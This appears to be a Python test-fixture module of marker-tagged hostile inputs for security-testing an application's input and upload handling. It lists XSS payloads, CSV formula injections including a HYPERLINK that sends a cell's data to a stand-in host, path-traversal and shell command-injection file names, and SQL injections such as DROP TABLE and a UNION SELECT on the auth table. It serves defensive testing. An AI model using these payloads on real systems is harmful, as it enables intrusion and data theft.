"""Hostile strings: what is typed, and what names and texts inside of uploads say.

Whatever could become active carries MARK, so that it is recognised wherever it comes up again.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

MARK: Final = "hx_7q"
"""With a `_`, which no token against forged forms has: of letters and digits alone, one in 200 runs held the mark."""
OUTSIDE: Final = f"{MARK}-escaped"
"""The name of every file that would be written outside its place; nothing of ours has such a name."""

_RUN: Final = f"window.{MARK}=1"

MARKUP: Final = (
    f"<script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body onload="{_RUN}"/></foreignObject></svg>',
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f'<a href="javascript:{_RUN}">{MARK}</a>',
    f"[{MARK}](javascript:{_RUN})",
    f'![{MARK}](x" onerror="{_RUN})',
    f"[{MARK}]: javascript:{_RUN}",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<details open ontoggle={_RUN}>{MARK}",
    f'<form action="javascript:{_RUN}"><button>{MARK}',
    f'<math><mi xlink:href="javascript:{_RUN}">{MARK}',
    f'<base href="//{MARK}.invalid/">',
    f'<meta http-equiv="refresh" content="0;url=//{MARK}.invalid/">',
    f'<link rel="stylesheet" href="//{MARK}.invalid/x.css">',
    f'<object data="//{MARK}.invalid/x.svg"></object>',
    f'<x hx-get="/{MARK}/" hx-trigger="load">{MARK}</x>',
    f'" autofocus onfocus={_RUN} x="',
    f"' onmouseover='{_RUN}",
    f"` onmouseover={_RUN}",
    f"javascript:{_RUN}//{MARK}",
    f"data:text/html,<script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"<ScRiPt/x>{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<script\x0c>{_RUN}</script>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"{{{{ {MARK} }}}}{{% now 'Y' %}}{{% debug %}}",
    f"${{{MARK}}}#{{{MARK}}}<%= {MARK} %>",
)

FORMULAS: Final = (
    f'=HYPERLINK("http://{MARK}.invalid/?"&A1,"{MARK}")',
    f"=cmd|'/c calc {MARK}'!A0",
    f"+{MARK}+1",
    f"-2+3+cmd|'{MARK}'!A0",
    f"@SUM(1,{MARK})",
    f"\t={MARK}",
    f"\r={MARK}",
    f"\n={MARK}",
    f" ={MARK}",
    f"\u00a0={MARK}",
    f"\ufeff={MARK}",
    f"\u200b={MARK}",
    f"\uff1d{MARK}",
    f"\uff0b{MARK}",
    f'a,"={MARK}"',
    f"a\r\n={MARK},b",
    f"%3D{MARK}",
)

FILE_NAMES: Final = (
    f"../{OUTSIDE}.json",
    f"../../../../../../tmp/{OUTSIDE}.json",
    f"/tmp/{OUTSIDE}.json",
    f"/{OUTSIDE}",
    f"..\\..\\{OUTSIDE}.json",
    f"C:\\{OUTSIDE}.json",
    f"\\\\{MARK}.invalid\\share\\{OUTSIDE}",
    f"....//....//{OUTSIDE}.json",
    f"%2e%2e/%2e%2e/{OUTSIDE}.json",
    f"..%2f..%2f{OUTSIDE}.json",
    f"..%c0%af{OUTSIDE}.json",
    f"a/../../{OUTSIDE}.json",
    f"./../{OUTSIDE}.json",
    f"skills/../../{OUTSIDE}/SKILL.md",
    f"\uff0e\uff0e\uff0f{OUTSIDE}.json",
    f"~/{OUTSIDE}.json",
    f"$HOME/{OUTSIDE}.json",
    f"$(touch {OUTSIDE}).json",
    f"`touch {OUTSIDE}`.json",
    f"|touch {OUTSIDE}",
    f";touch {OUTSIDE};.json",
    f"-o{OUTSIDE}",
    f"file:///tmp/{OUTSIDE}",
    f"http://{MARK}.invalid/x.json",
    f"{MARK}\u202egnp.json",
    f"{MARK}.json\u200b",
    f".{MARK}",
    f"{MARK}." + "x" * 300,
    f"{MARK}" * 60 + ".json",
    f"{MARK}/" * 60,
    f"{MARK}\u0001\u001b[31m.json",
    f"{MARK}\u2028.json",
    f"{MARK}\U0001f9e8.json",
    f"{MARK}.json;.zip",
    f"{MARK}.svg",
    f"{MARK}.html",
    "con.json",
    "nul",
    "...",
    ". .",
)

CONTROLS: Final = tuple(
    f"{MARK}{sign}end"
    for sign in (
        *map(chr, (0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1A, 0x1B, 0x1F, 0x7F, 0x80, 0x85, 0x9B, 0xA0, 0xAD)),
        *("\u0345\u0334", "\u061c", "\u115f", "\u180e", "\u200b", "\u200d", "\u200f", "\u2028", "\u2029", "\u202e"),
        *("\u2060", "\u2066", "\u3164", "\ufe0f", "\ufeff", "\ufff9", "\ufffd", "\ufffe", "\uffff", "\U000e0041"),
        *("\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0010ffff", "\x1b]0;owned\x07", "\x1b[2J\x1b[31m"),
    )
)

SQL: Final = (
    "' OR '1'='1",
    f"'; DROP TABLE sources_source; -- {MARK}",
    f"{MARK}%' AND 1=0 UNION SELECT * FROM auth_user --",
    "\\",
    "%",
    "_%_%_",
    "%s %(x)s %%",
    "{0} {x!r} {x.__class__}",
)

LENGTHS: Final = (
    "a" * 20_000,
    " " * 20_000,
    "\n" * 20_000,
    "\U0001f9e8" * 5_000,
    "a\u0345\u0334" * 6_000,
    "\u017f" * 9_000,
)

NUMBERS: Final = (
    *(
        "-1",
        "0",
        "1e999",
        "-1e999",
        "NaN",
        "Infinity",
        "-Infinity",
        "1e-999",
        "0x10",
        "1_000",
        "\u0661\u0662",
        "\u00bd",
    ),
    *(
        "9" * 20,
        "9" * 400,
        "9" * 5000,
        "-" + "9" * 5000,
        "2147483648",
        "9223372036854775808",
        "1.5",
        "+5",
        " 5 ",
        "5\x00",
    ),
)

#: Every string by the name of its family.
STRINGS: Final[Mapping[str, tuple[str, ...]]] = {
    "markup": MARKUP,
    "formulas": FORMULAS,
    "file names": FILE_NAMES,
    "controls": (*CONTROLS, f"{MARK}\x00end", "\x00", f"{MARK}\x00" * 200),
    "databases": SQL,
    "lengths": LENGTHS,
    "numbers": NUMBERS,
}
